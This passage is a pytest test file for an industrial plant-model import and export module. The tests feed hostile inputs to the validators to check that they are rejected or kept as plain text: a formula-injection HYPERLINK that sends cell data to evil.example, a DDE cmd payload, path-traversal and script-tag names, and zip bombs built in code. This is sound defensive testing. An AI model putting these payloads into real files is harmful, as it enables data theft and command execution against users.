"""Import files for the plant model: reading, validating as a whole, and writing back (no database)."""

import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from otcsms.plant.importfiles import (
    COLUMNS,
    MAX_FILE_BYTES,
    MAX_ROWS,
    AssetRecord,
    ConduitRecord,
    Endpoint,
    ImportContext,
    ImportRejected,
    PersonRecord,
    RowProblem,
    SiteRecord,
    ZoneRecord,
    escape_formula,
    normalise_protocol,
    parse_endpoint,
    read_table,
    validate_rows,
    write_table,
)

SAMPLES = Path(__file__).parent / "samples"
KINDS = ("sites", "zones", "conduits", "assets", "people")

# what exists in the instance the samples are imported into
CONTEXT = ImportContext(
    existing_sites=frozenset({"North Water Treatment Plant"}),
    existing_zones=frozenset({"Enterprise", "Plant DMZ", "Control", "Safety"}),
)
EMPTY = ImportContext()


def context_for(kind: str) -> ImportContext:
    # zones and sites are imported into an instance that does not have them yet
    if kind in ("zones", "sites"):
        return EMPTY
    return CONTEXT


def problems_of(kind, rows, context=EMPTY):
    with pytest.raises(ImportRejected) as caught:
        validate_rows(kind, rows, context)
    return caught.value.problems


def reasons(problems):
    return [(problem.row, problem.column, problem.reason) for problem in problems]


def without_row(record):
    return record._replace(row=0)


# ------------------------------------------------------------------------------------------ good samples


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize("kind", KINDS)
def test_every_sample_file_imports(kind, fmt):
    table = read_table(SAMPLES / f"{kind}.{fmt}", f"{kind}.{fmt}")
    plan = validate_rows(kind, table, context_for(kind))
    assert plan.kind == kind
    assert len(plan.records) == len(table) > 0


def test_assets_csv_is_normalised():
    plan = validate_rows("assets", read_table(SAMPLES / "assets.csv", "assets.csv"), CONTEXT)
    plc, rtu, hmi, ews, sis = plan.records
    assert plc == AssetRecord(
        row=2,
        name="PLC-101",
        zone="Control",
        type="plc",
        vendor="Rockwell",
        model="ControlLogix 5580",
        firmware="33.011",
        serial="SN-0042",
        criticality="critical",
        ip="10.20.1.11",
        mac="00:1d:9c:aa:bb:01",
        endpoints=(
            Endpoint("opc-ua", "10.20.1.11", 4840, "/ua"),
            Endpoint("modbus-tcp", "10.20.1.11", 502, "", (("unit", 1),)),
        ),
        description="Filter gallery controller",
    )
    assert rtu.mac == "00:1d:9c:aa:bb:07"
    assert rtu.endpoints == (Endpoint("dnp3", "10.20.1.70", 20000, "", (("outstation", 7), ("master", 1))),)
    assert hmi.endpoints == (Endpoint("https", "10.20.1.50", 443),)
    assert ews.type == "engineering-workstation"
    assert ews.endpoints[0] == Endpoint("rdp", "fd00::50", 3389)
    assert ews.endpoints[1].host == "ews-1.plant.local"
    assert sis.type == "safety-controller" and sis.zone == "Safety"


def test_sites_csv_normalises_sector_and_impact():
    plan = validate_rows("sites", read_table(SAMPLES / "sites.csv", "sites.csv"), EMPTY)
    assert [(site.sector, site.nerc_impact) for site in plan.records] == [
        ("water", "none"),
        ("electric-transmission", "medium"),
        ("oil-gas", ""),
    ]
    assert plan.records[0].location == "Springfield, OR"


def test_zones_csv_parses_sl_t_and_orders_parents_first():
    plan = validate_rows("zones", read_table(SAMPLES / "zones.csv", "zones.csv"), context_for("zones"))
    by_name = {zone.name: zone for zone in plan.records}
    assert by_name["Enterprise"].sl_t == (1,) * 7
    assert by_name["Control"].sl_t == (2, 2, 1, 3, 1, 1, 2)
    assert by_name["Safety"].parent == "Control"


def test_conduits_csv_normalises_protocol_spellings():
    plan = validate_rows("conduits", read_table(SAMPLES / "conduits.csv", "conduits.csv"), CONTEXT)
    first, second, third = plan.records
    assert first.protocols == ("https", "rdp")
    assert second == ConduitRecord(
        2 + 1,
        "DMZ to Control",
        ("Plant DMZ", "Control"),
        ("opc-ua", "modbus-tcp"),
        "FW-02",
        "Historian replication",
    )
    assert third.protocols == ("ethernet-ip",) and third.security_device == "DIODE-01"


def test_people_csv_normalises_email_domain_and_resolves_site():
    plan = validate_rows("people", read_table(SAMPLES / "people.csv", "people.csv"), CONTEXT)
    assert plan.records[1] == PersonRecord(
        3, "Ben Okafor", "Ben.Okafor@example.org", "Plant manager", "", "North Water Treatment Plant"
    )
    assert plan.records[2].site is None


def test_xlsx_numbers_and_dates_become_text_and_blank_rows_keep_numbering():
    zones = read_table(SAMPLES / "zones.xlsx", "zones.xlsx")
    assert zones.row_numbers == [2, 3, 5]
    assert zones[0]["sl_t"] == "1"
    assets = read_table(SAMPLES / "assets.xlsx", "assets.xlsx")
    assert (assets[0]["firmware"], assets[0]["serial"], assets[1]["firmware"]) == ("33.011", "42", "148")
    sites = read_table(SAMPLES / "sites.xlsx", "sites.xlsx")
    assert sites[1]["description"] == "2024-03-01"
    assert sites.columns == ("name", "sector", "location", "nerc_impact", "description")


def test_json_numbers_keep_their_written_form():
    table = read_table(SAMPLES / "assets.json", "assets.json")
    assert table[0]["firmware"] == "33.011"
    assert table[0]["serial"] == "42"
    assert table[1]["serial"] == ""
    assert table.row_numbers == [1, 2]


def test_csv_byte_order_mark_and_header_case_are_tolerated():
    table = read_table("\ufeffName , ZONE\nPLC-1,Control\n".encode(), "a.csv")
    assert list(table) == [{"name": "PLC-1", "zone": "Control"}]


def test_csv_quoted_multiline_field_counts_as_one_row():
    data = b'name,description\nA,"line one\nline two"\nB,\n'
    table = read_table(data, "z.csv")
    assert table.row_numbers == [2, 3]
    plan = validate_rows("zones", table, EMPTY)
    assert plan.records[0].description == "line one\nline two"


def test_bytes_source_never_opens_the_named_file(tmp_path):
    table = read_table(b"name\nPLC-1\n", "../../etc/passwd.csv")
    assert list(table) == [{"name": "PLC-1"}]


def test_stream_source_is_read():
    assert list(read_table(io.BytesIO(b"name\nX\n"), "up.csv")) == [{"name": "X"}]


# ------------------------------------------------------------------------------------------------- limits


@pytest.mark.parametrize("filename", ["assets.txt", "passwd", "../../etc/passwd", "book.xls", "macro.xlsm"])
def test_unknown_file_types_are_rejected(filename):
    with pytest.raises(ImportRejected) as caught:
        read_table(b"name\nA\n", filename)
    assert caught.value.problems[0].row == 0
    assert (
        ".csv, .xlsx or .json" in caught.value.problems[0].reason
        or ".xlsx" in caught.value.problems[0].reason
    )


def test_a_file_over_50_mb_is_rejected_before_reading(tmp_path):
    big = tmp_path / "big.csv"
    with open(big, "wb") as stream:
        stream.truncate(MAX_FILE_BYTES + 1)  # sparse: costs no disk
    with pytest.raises(ImportRejected, match="larger than 50 MB"):
        read_table(big, "big.csv")
    with pytest.raises(ImportRejected, match="larger than 50 MB"):
        read_table(b"x" * (MAX_FILE_BYTES + 1), "big.json")


def test_a_missing_file_is_a_clear_problem(tmp_path):
    with pytest.raises(ImportRejected, match="cannot read the file"):
        read_table(tmp_path / "absent.csv", "absent.csv")


def test_more_than_200000_rows_are_rejected():
    data = b"name\n" + b"x\n" * (MAX_ROWS + 1)
    with pytest.raises(ImportRejected, match="more than 200,000 data rows"):
        read_table(data, "many.csv")
    exactly = read_table(b"name\n" + b"x\n" * MAX_ROWS, "many.csv")
    assert len(exactly) == MAX_ROWS


def test_more_than_200000_json_rows_are_rejected():
    data = json.dumps([{"name": "x"}] * (MAX_ROWS + 1)).encode()
    with pytest.raises(ImportRejected, match="more than 200,000"):
        read_table(data, "many.json")


def test_non_utf8_csv_is_rejected():
    with pytest.raises(ImportRejected, match="not UTF-8"):
        read_table("name\nZürich\n".encode("latin-1"), "a.csv")


def test_broken_csv_quoting_is_rejected():
    with pytest.raises(ImportRejected, match="not readable as CSV"):
        read_table(b'name\n"abc"def\n', "a.csv")


def test_csv_without_header_is_rejected():
    with pytest.raises(ImportRejected, match="header"):
        read_table(b"", "a.csv")


def test_duplicate_header_column_is_rejected():
    with pytest.raises(ImportRejected) as caught:
        read_table(b"name,zone,Name\nA,B,C\n", "a.csv")
    assert reasons(caught.value.problems) == [(1, "name", "the column appears twice in the header")]


def test_value_under_a_column_without_header_is_rejected():
    with pytest.raises(ImportRejected) as caught:
        read_table(b"name,,zone\nA,,B\nC,oops,D\nE,F,G,H\n", "a.csv")
    assert [problem.row for problem in caught.value.problems] == [3, 4]


def test_xlsx_zip_bomb_is_refused_before_unpacking():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 2**20))  # 20 MB of zeros, ~20 KB packed
    data = buffer.getvalue()
    assert len(data) < 100_000
    with pytest.raises(ImportRejected, match="zip bomb"):
        read_table(data, "bomb.xlsx")


def test_xlsx_declaring_a_huge_unpacked_size_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<x/>")
    data = bytearray(buffer.getvalue())
    central = data.rfind(b"PK\x01\x02")
    data[central + 24 : central + 28] = (2**32 - 1).to_bytes(4, "little")  # uncompressed size field
    with pytest.raises(ImportRejected, match="unpacks to more than"):
        read_table(bytes(data), "liar.xlsx")


def test_a_zip_that_is_not_a_workbook_is_rejected():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(ImportRejected, match="not a readable XLSX"):
        read_table(buffer.getvalue(), "a.xlsx")
    with pytest.raises(ImportRejected, match="not a zip archive"):
        read_table(b"name\nA\n", "a.xlsx")


def xlsx_bytes(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_formulas_are_never_evaluated_but_read_as_text():
    data = xlsx_bytes([["name", "description"], ["PLC-1", "=1+1"], ["PLC-2", '=WEBSERVICE("http://x")']])
    table = read_table(data, "f.xlsx")
    assert [row["description"] for row in table] == ["=1+1", '=WEBSERVICE("http://x")']


def test_xlsx_header_must_be_row_one():
    data = xlsx_bytes([[], ["name"], ["PLC-1"]])
    with pytest.raises(ImportRejected, match="row 1 must be the header"):
        read_table(data, "h.xlsx")


def test_xlsx_with_a_cell_far_below_reads_quickly():
    workbook = openpyxl.Workbook()
    workbook.active.append(["name"])
    workbook.active.append(["PLC-1"])
    workbook.active["A1000000"] = "PLC-2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = read_table(buffer.getvalue(), "far.xlsx")
    assert table.row_numbers == [2, 1_000_000]


# ---------------------------------------------------------------------------------------- hostile content


def test_deeply_nested_json_is_rejected_cleanly():
    data = b"[" * 10**6 + b"]" * 10**6
    with pytest.raises(ImportRejected) as caught:
        read_table(data, "deep.json")
    assert "nested too deeply" in caught.value.problems[0].reason or "list of objects" in str(caught.value)


def test_huge_json_numbers_are_text_and_fail_only_the_length_rule():
    table = read_table(SAMPLES / "hostile_numbers.json", "hostile_numbers.json")
    assert len(table[0]["name"]) == 5000
    assert table[1]["name"] == "1e999"
    problems = problems_of("zones", table)
    assert reasons(problems) == [(1, "name", "longer than 200 characters (5000)")]


def test_json_nan_and_duplicate_keys_are_rejected():
    with pytest.raises(ImportRejected, match="NaN"):
        read_table(b'[{"name": NaN}]', "a.json")
    with pytest.raises(ImportRejected, match="appears twice"):
        read_table(b'[{"name": "a", "name": "b"}]', "a.json")
    with pytest.raises(ImportRejected, match="list of objects"):
        read_table(b'{"name": "a"}', "a.json")


def test_wrong_types_in_json_are_reported_per_row_and_column():
    with pytest.raises(ImportRejected) as caught:
        read_table(SAMPLES / "wrong_types.json", "wrong_types.json")
    assert reasons(caught.value.problems) == [
        (1, "name", "expected text, a number, true/false or null, got an object"),
        (2, "zone", "expected text, a number, true/false or null, got a list"),
        (4, "", "expected an object, got str"),
    ]


def test_json_booleans_and_numbers_in_choice_columns_fail_the_choice():
    table = read_table(b'[{"name": "PLC-3", "type": true, "criticality": 3}]', "a.json")
    problems = problems_of("assets", table)
    assert [(problem.row, problem.column) for problem in problems] == [(1, "type"), (1, "criticality")]
    assert "'true' is not one of: plc" in problems[0].reason


def test_hostile_names_are_plain_text_except_nul_bytes():
    table = read_table(SAMPLES / "hostile_names.csv", "hostile_names.csv")
    problems = problems_of("zones", table)
    assert reasons(problems) == [
        (5, "name", "contains a NUL byte"),
        (6, "description", "contains a NUL byte"),
    ]
    plan = validate_rows("zones", table[:3], EMPTY)
    assert [zone.name for zone in plan.records] == [
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "Tom & Jerry",
    ]


def test_formula_cells_are_kept_as_plain_text_and_the_guard_quote_is_removed():
    table = read_table(SAMPLES / "hostile_formulas.csv", "hostile_formulas.csv")
    plan = validate_rows("assets", table, EMPTY)
    first, second = plan.records
    assert first.name == '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert first.vendor == "+cmd|' /C calc'!A0"
    assert first.description == "@SUM(1+1)"
    assert second.vendor == "-2+3"
    assert second.description == "=1+1"  # exported as '=1+1, the quote guarded it


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_escapes_formula_cells(fmt):
    rows = [{"name": "=cmd()", "vendor": "+1", "model": "-1", "firmware": "@x", "description": "safe"}]
    data = write_table("assets", rows, fmt)
    if fmt == "csv":
        text = data.decode("utf-8-sig")
        assert "'=cmd()" in text and "'+1" in text and "'-1" in text and "'@x" in text
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        cells = [cell.value for cell in sheet[2]]
        assert cells[:6] == ["'=cmd()", None, None, "+1", "-1", "@x"] or cells[0] == "'=cmd()"
        assert all(not str(value).startswith("=") for value in cells if value)
        assert all(cell.data_type != "f" for cell in sheet[2])
    assert [
        record.name for record in validate_rows("assets", read_table(data, f"x.{fmt}"), EMPTY).records
    ] == ["=cmd()"]


@given(st.text(max_size=30))
def test_formula_escape_is_reversed_on_import(text):
    from otcsms.core.spreadsheet import unescape_formula

    escaped = escape_formula(text)
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unescape_formula(escaped) == text


# -------------------------------------------------------------------------------------------- column rules


def test_unknown_column_is_named_with_a_suggestion_and_rows_are_still_checked():
    problems = problems_of("assets", [{"name": "A", "criticallity": "high", "ip": "300.1.1.1"}])
    assert problems[0].column == "criticallity"
    assert "unknown column 'criticallity' for assets (did you mean 'criticality'?)" in problems[0].reason
    assert problems[1].column == "ip"


def test_unknown_column_in_a_header_is_reported_on_row_one():
    table = read_table(b"name,colour\nA,red\n", "z.csv")
    problems = problems_of("zones", table)
    assert [(problem.row, problem.column) for problem in problems] == [(1, "colour")]


def test_missing_required_column_stops_at_the_header():
    table = read_table(b"name,protocols\nC1,modbus-tcp\nC2,dnp3\n", "c.csv")
    problems = problems_of("conduits", table, CONTEXT)
    assert reasons(problems) == [(1, "zones", "the required column 'zones' is missing")]


def test_accounts_are_not_an_import_kind_here():
    with pytest.raises(ValueError, match="unknown import kind"):
        validate_rows("accounts", [], EMPTY)


def test_column_contract_matches_product_md():
    assert {kind: columns.all for kind, columns in COLUMNS.items()} == {
        "sites": ("name", "sector", "location", "nerc_impact", "description"),
        "zones": ("name", "kind", "sl_t", "sl_t_reason", "parent", "description"),
        "conduits": ("name", "zones", "protocols", "security_device", "rule_set", "description"),
        "assets": (
            "name",
            "zone",
            "type",
            "vendor",
            "model",
            "firmware",
            "serial",
            "criticality",
            "ip",
            "mac",
            "endpoints",
            "profile",
            "description",
        ),
        "people": ("name", "email", "role", "employer", "site"),
    }
    assert COLUMNS["conduits"].required == ("name", "zones")


# ---------------------------------------------------------------------------------------------- row rules


def test_all_problems_are_collected_not_only_the_first():
    rows = [
        {"name": "", "sector": "water"},
        {"name": "Plant A", "sector": "mining", "nerc_impact": "severe"},
        {"name": "plant a", "sector": "water"},
    ]
    problems = problems_of("sites", rows)
    assert [(problem.row, problem.column) for problem in problems] == [
        (2, "name"),
        (3, "sector"),
        (3, "nerc_impact"),
        (4, "name"),
    ]
    assert problems[0].reason == "name is required"
    assert problems[3].reason == "duplicate site 'plant a': also in row 3"


def test_name_rules():
    long_name = "x" * 201
    problems = problems_of(
        "sites",
        [{"name": long_name}, {"name": "tab\there"}, {"name": "rtl\u202egnp.exe"}, {"name": "  padded  "}],
    )
    assert reasons(problems) == [
        (2, "name", "longer than 200 characters (201)"),
        (3, "name", "must be one line (no tabs or line breaks)"),
        (4, "name", "contains the bidirectional control U+202E, which makes text read differently"),
    ]
    assert validate_rows("sites", [{"name": "  padded  "}], EMPTY).records[0].name == "padded"


def test_free_text_limit_and_line_breaks():
    ok = validate_rows("sites", [{"name": "A", "description": "two\nlines\tand a tab"}], EMPTY)
    assert ok.records[0].description == "two\nlines\tand a tab"
    problems = problems_of(
        "sites", [{"name": "A", "description": "d" * 2001}, {"name": "B", "location": "x\ny"}]
    )
    assert reasons(problems) == [
        (2, "description", "longer than 2000 characters (2001)"),
        (3, "location", "must be one line (no tabs or line breaks)"),
    ]


def test_duplicate_of_an_existing_name_is_rejected():
    context = ImportContext(existing_sites=frozenset({"North Plant"}))
    problems = problems_of("sites", [{"name": "north plant"}], context)
    assert reasons(problems) == [(2, "name", "site 'North Plant' already exists")]


@pytest.mark.parametrize(
    ("value", "expected"),
    [("0", (0,) * 7), ("4", (4,) * 7), (" 1, 2,2,3,1,1,2 ", (1, 2, 2, 3, 1, 1, 2)), ("", None)],
)
def test_sl_t_values(value, expected):
    plan = validate_rows("zones", [{"name": "Z", "sl_t": value}], EMPTY)
    assert plan.records[0].sl_t == expected


@pytest.mark.parametrize("value", ["5", "-1", "1,2,3", "1,2,2,3,1,1,2,2", "high", "2.0", "1,2,2,,1,1,2"])
def test_bad_sl_t_values_are_rejected(value):
    problems = problems_of("zones", [{"name": "Z", "sl_t": value}])
    assert [(problem.row, problem.column) for problem in problems] == [(2, "sl_t")]


def test_zone_parent_must_exist_in_file_or_site():
    context = ImportContext(existing_zones=frozenset({"Site Level"}))
    plan = validate_rows(
        "zones",
        [{"name": "Child", "parent": "Parent"}, {"name": "Parent", "parent": "site level"}],
        context,
    )
    assert [(zone.name, zone.parent) for zone in plan.records] == [
        ("Parent", "Site Level"),
        ("Child", "Parent"),
    ]
    problems = problems_of("zones", [{"name": "Child", "parent": "Nowhere"}], context)
    assert reasons(problems) == [(2, "parent", "unknown parent zone 'Nowhere': not in the file or the site")]


def test_zone_parent_of_a_rejected_row_is_not_reported_twice():
    problems = problems_of("zones", [{"name": "Parent", "sl_t": "9"}, {"name": "Child", "parent": "Parent"}])
    assert [(problem.row, problem.column) for problem in problems] == [(2, "sl_t")]


def test_zone_parent_cycles_are_rejected_with_the_loop_named():
    rows = [
        {"name": "A", "parent": "B"},
        {"name": "B", "parent": "C"},
        {"name": "C", "parent": "A"},
        {"name": "D", "parent": "A"},
        {"name": "Self", "parent": "self"},
    ]
    problems = problems_of("zones", rows)
    assert [(problem.row, problem.column) for problem in problems] == [
        (2, "parent"),
        (3, "parent"),
        (4, "parent"),
        (6, "parent"),
    ]
    assert problems[0].reason == "the parent chain loops: A -> B -> C -> A"
    assert problems[3].reason == "the parent chain loops: Self -> Self"


def test_long_parent_chain_is_checked_in_linear_time():
    rows = [{"name": f"Z{i}", "parent": f"Z{i + 1}" if i < 19_999 else ""} for i in range(20_000)]
    plan = validate_rows("zones", rows, EMPTY)
    assert plan.records[0].name == "Z19999"  # the root is written first
    assert plan.records[-1].name == "Z0"


def test_conduit_zone_rules():
    rows = [
        {"name": "C1", "zones": "Control"},
        {"name": "C2", "zones": "Control;control"},
        {"name": "C3", "zones": "Control;Mars"},
        {"name": "C4", "zones": "Control;Safety;Enterprise"},
        {"name": "C5", "zones": " control ; plant dmz "},
    ]
    problems = problems_of("conduits", rows, CONTEXT)
    assert reasons(problems) == [
        (2, "zones", "expected exactly two zone names separated by ';', got 'Control'"),
        (3, "zones", "a conduit joins two different zones"),
        (4, "zones", "unknown zone 'Mars' in this site"),
        (5, "zones", "expected exactly two zone names separated by ';', got 'Control;Safety;Enterprise'"),
    ]
    assert validate_rows("conduits", rows[4:], CONTEXT).records[0].zones == ("Control", "Plant DMZ")


@pytest.mark.parametrize(
    ("spelling", "protocol"),
    [
        ("Modbus TCP", "modbus-tcp"),
        ("modbus/tcp", "modbus-tcp"),
        ("OPC UA", "opc-ua"),
        ("opc.tcp", "opc-ua"),
        ("DNP3", "dnp3"),
        ("IEC 61850 GOOSE", "iec-61850-goose"),
        ("IEC 61850 MMS", "iec-61850-mms"),
        ("IEC-104", "iec-60870-5-104"),
        ("IEC 60870-5-104", "iec-60870-5-104"),
        ("EtherNet/IP", "ethernet-ip"),
        ("S7comm", "s7"),
        ("BACnet/IP", "bacnet"),
        ("PROFINET", "profinet"),
        ("HTTPS", "https"),
        ("SNMPv3", "snmp"),
    ],
)
def test_protocol_spellings(spelling, protocol):
    assert normalise_protocol(spelling) == protocol


def test_unknown_protocol_is_rejected_and_duplicates_collapse():
    plan = validate_rows(
        "conduits", [{"name": "C", "zones": "Control;Safety", "protocols": "OPC UA;opc-ua;"}], CONTEXT
    )
    assert plan.records[0].protocols == ("opc-ua",)
    problems = problems_of(
        "conduits", [{"name": "C", "zones": "Control;Safety", "protocols": "telnet"}], CONTEXT
    )
    assert problems[0].column == "protocols" and "unknown protocol 'telnet'" in problems[0].reason


def test_asset_field_rules():
    rows = [
        {"name": "A1", "zone": "Mars"},
        {"name": "A2", "type": "toaster"},
        {"name": "A3", "criticality": "extreme"},
        {"name": "A4", "ip": "10.0.0.256"},
        {"name": "A5", "ip": "010.0.0.1"},
        {"name": "A6", "mac": "aa:bb:cc:dd:ee"},
        {"name": "A7", "mac": "aa:bb-cc:dd:ee:ff"},
        {"name": "A8", "profile": "unknown-map"},
    ]
    context = ImportContext(existing_zones=frozenset({"Control"}), profiles=frozenset({"m340-map"}))
    problems = problems_of("assets", rows, context)
    assert [(problem.row, problem.column) for problem in problems] == [
        (2, "zone"),
        (3, "type"),
        (4, "criticality"),
        (5, "ip"),
        (6, "ip"),
        (7, "mac"),
        (8, "mac"),
        (9, "profile"),
    ]


def test_asset_ip_and_mac_are_normalised():
    rows = [
        {"name": "A", "ip": "FD00:0:0::1", "mac": "AABBCCDDEEFF"},
        {"name": "B", "ip": "192.168.0.1", "mac": "aa-bb-cc-dd-ee-ff"},
    ]
    a, b = validate_rows("assets", rows, EMPTY).records
    assert (a.ip, a.mac) == ("fd00::1", "aa:bb:cc:dd:ee:ff")
    assert (b.ip, b.mac) == ("192.168.0.1", "aa:bb:cc:dd:ee:ff")


def test_people_rules():
    rows = [
        {"name": "A", "email": "not-an-email"},
        {"name": "B", "email": "b@example.org", "site": "Atlantis"},
        {"name": "C", "email": "B@EXAMPLE.ORG"},
        {"name": "D", "email": "old@example.org"},
        {"name": "", "email": "e@example.org"},
    ]
    context = ImportContext(
        existing_sites=frozenset({"Plant"}), existing_emails=frozenset({"old@example.org"})
    )
    problems = problems_of("people", rows, context)
    assert reasons(problems) == [
        (2, "email", "'not-an-email' is not an email address"),
        (3, "site", "unknown site 'Atlantis'"),
        (4, "email", "duplicate email 'B@example.org': also in row 3"),
        (5, "email", "email 'old@example.org' already exists"),
        (6, "name", "name is required"),
    ]


def test_people_roles_can_be_restricted_by_the_context():
    context = ImportContext(roles=frozenset({"OT engineer", "Plant manager"}))
    plan = validate_rows("people", [{"name": "A", "role": "ot engineer"}], context)
    assert plan.records[0].role == "OT engineer"
    assert problems_of("people", [{"name": "A", "role": "Astronaut"}], context)[0].column == "role"


def test_plain_rows_with_non_text_values_are_reported():
    problems = problems_of("sites", [{"name": 42}])
    assert reasons(problems) == [(2, "name", "expected text, got int")]


def test_progress_is_reported_every_n_rows_and_at_the_end():
    seen = []
    validate_rows(
        "sites", [{"name": f"S{i}"} for i in range(2500)], EMPTY, progress=seen.append, progress_every=1000
    )
    assert seen == [1000, 2000, 2500]


def test_problem_text_names_row_and_column():
    problem = RowProblem(7, "ip", "'x' is not an IPv4 or IPv6 address")
    assert str(problem) == "row 7, column ip: 'x' is not an IPv4 or IPv6 address"
    assert str(RowProblem(0, "", "too big")) == "file: too big"
    error = ImportRejected([RowProblem(9, "a", "late"), RowProblem(3, "b", "early")])
    assert [problem.row for problem in error.problems] == [3, 9]
    assert str(error) == "2 problems, the first: row 3, column b: early"


# ------------------------------------------------------------------------------------------------ endpoints


@pytest.mark.parametrize(
    ("uri", "endpoint"),
    [
        ("opc.tcp://plc1:4840", Endpoint("opc-ua", "plc1", 4840)),
        (
            "OPC.TCP://PLC1.plant.local:4840/UA/Server",
            Endpoint("opc-ua", "plc1.plant.local", 4840, "/UA/Server"),
        ),
        ("modbus+tcp://10.0.0.5:502?unit=0", Endpoint("modbus-tcp", "10.0.0.5", 502, "", (("unit", 0),))),
        ("modbus+tcp://10.0.0.5:502?unit=255", Endpoint("modbus-tcp", "10.0.0.5", 502, "", (("unit", 255),))),
        (
            "dnp3+tcp://[fe80::1]:20000?master=1&outstation=65519",
            Endpoint("dnp3", "fe80::1", 20000, "", (("outstation", 65519), ("master", 1))),
        ),
        ("s7://10.0.0.9:102", Endpoint("s7", "10.0.0.9", 102)),
        ("enip://10.0.0.9:44818", Endpoint("ethernet-ip", "10.0.0.9", 44818)),
        ("bacnet://10.0.0.9:47808", Endpoint("bacnet", "10.0.0.9", 47808)),
        ("x-custom://host_1:1", Endpoint("x-custom", "host_1", 1)),
    ],
)
def test_endpoint_uris_parse(uri, endpoint):
    parsed = parse_endpoint(uri)
    assert parsed == endpoint
    assert parse_endpoint(parsed.uri()) == parsed


@pytest.mark.parametrize(
    ("uri", "reason"),
    [
        ("10.0.0.5:502", "not an endpoint URI"),
        ("opc.tcp://plc1", "the port is missing"),
        ("opc.tcp://plc1:0", "the port must be 1-65535"),
        ("opc.tcp://plc1:65536", "the port must be 1-65535"),
        ("opc.tcp://plc1:99999999999999999999", "the port must be 1-65535"),
        ("opc.tcp://user:secret@plc1:4840", "credentials do not belong"),
        ("opc.tcp://plc1:4840/#frag", "no '#' fragment"),
        ("opc.tcp://plc1:4840/a b", "the path has characters"),
        ("opc.tcp://plc1:4840?x=1", "unexpected parameter 'x'"),
        ("modbus+tcp://10.0.0.5:502", "needs ?unit=N"),
        ("modbus+tcp://10.0.0.5:502?unit=256", "unit must be a whole number 0-255"),
        ("modbus+tcp://10.0.0.5:502?unit=-1", "unit must be a whole number 0-255"),
        ("modbus+tcp://10.0.0.5:502?unit=1&unit=2", "given twice"),
        ("modbus+tcp://10.0.0.5:502/path?unit=1", "has no path"),
        ("dnp3+tcp://10.0.0.5:20000?outstation=1", "needs ?master=N"),
        ("dnp3+tcp://10.0.0.5:20000?outstation=65520&master=1", "outstation must be a whole number 0-65519"),
        ("https://10.0.0.5:443/api", "a https endpoint has no path"),
        ("https://10.0.0.300:443", "is not an IPv4 address"),
        ("https://[::g]:443", "is not an IPv6 address"),
        ("https://-bad-.example:443", "is not a host name"),
        ("https://<script>:443", "is not a host name"),
    ],
)
def test_bad_endpoint_uris_are_explained(uri, reason):
    with pytest.raises(ValueError, match=None) as caught:
        parse_endpoint(uri)
    assert reason in str(caught.value)


uri_parts = st.tuples(
    st.sampled_from(["opc.tcp", "OPC.TCP", "modbus+tcp", "dnp3+tcp", "https", "s7", "x-y", "9bad", ""]),
    st.sampled_from(["://", ":/", "//"]),
    st.sampled_from(
        ["10.0.0.1", "10.0.0.256", "010.0.0.1", "plc-1", "PLC-1", "-x", "a..b", "[::1]", "1.2.3", "h_1"]
    ),
    st.sampled_from([":502", ":0", ":65535", ":65536", ":", "", ":05"]),
    st.sampled_from(["", "/", "/ua", "/a b", "/%41"]),
    st.sampled_from(
        ["", "?unit=1", "?unit=256", "?outstation=1&master=2", "?master=2&outstation=1", "?x=1", "?unit="]
    ),
)


@settings(max_examples=400)
@given(uri_parts)
def test_fast_endpoint_path_agrees_with_the_full_parser(parts):
    from otcsms.plant.importfiles.endpoints import _parse_endpoint_fully

    uri = "".join(parts)
    try:
        expected = _parse_endpoint_fully(uri)
    except ValueError:
        with pytest.raises(ValueError):
            parse_endpoint(uri)
    else:
        assert parse_endpoint(uri) == expected


def test_endpoint_problems_name_the_asset_row():
    problems = problems_of(
        "assets", [{"name": "A", "endpoints": "opc.tcp://a:4840;opc.tcp://a:4840;ftp://b"}]
    )
    assert [problem.reason for problem in problems] == [
        "the endpoint 'opc.tcp://a:4840' is listed twice",
        "'ftp://b': the port is missing (HOST:PORT)",
    ]


@given(
    st.sampled_from(["opc.tcp", "modbus+tcp", "dnp3+tcp", "https", "ssh", "s7"]),
    st.one_of(
        st.ip_addresses(), st.from_regex(r"[a-z][a-z0-9-]{0,10}[a-z0-9](\.[a-z]{2,5})?", fullmatch=True)
    ),
    st.integers(1, 65535),
    st.integers(0, 255),
    st.integers(0, 65519),
)
def test_endpoint_round_trips(scheme, host, port, unit, address):
    host_text = f"[{host}]" if ":" in str(host) else str(host)
    query = {"modbus+tcp": f"?unit={unit}", "dnp3+tcp": f"?outstation={address}&master={unit}"}.get(
        scheme, ""
    )
    endpoint = parse_endpoint(f"{scheme}://{host_text}:{port}{query}")
    assert endpoint.port == port
    assert parse_endpoint(endpoint.uri()) == endpoint


# -------------------------------------------------------------------------------------------- round trips


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("kind", KINDS)
def test_export_then_import_gives_the_same_records(kind, fmt):
    original = validate_rows(kind, read_table(SAMPLES / f"{kind}.csv", f"{kind}.csv"), context_for(kind))
    data = write_table(kind, [record.as_row() for record in original.records], fmt)
    table = read_table(data, f"export.{fmt}")
    assert table.columns == COLUMNS[kind].all
    again = validate_rows(kind, table, context_for(kind))
    assert [without_row(record) for record in again.records] == [
        without_row(record) for record in original.records
    ]


text_values = (
    st.text(
